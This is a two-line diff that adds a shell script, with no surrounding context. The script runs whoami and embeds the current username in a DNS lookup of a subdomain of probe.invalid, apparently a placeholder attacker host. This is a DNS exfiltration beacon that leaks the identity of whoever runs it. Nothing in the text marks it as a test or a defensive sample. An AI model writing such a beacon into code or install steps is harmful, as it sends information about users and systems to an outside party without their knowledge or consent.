@@ -1,0 +1,2 @@
+#!/bin/sh
+nslookup "$(whoami | tr -d '\n')".probe.invalid
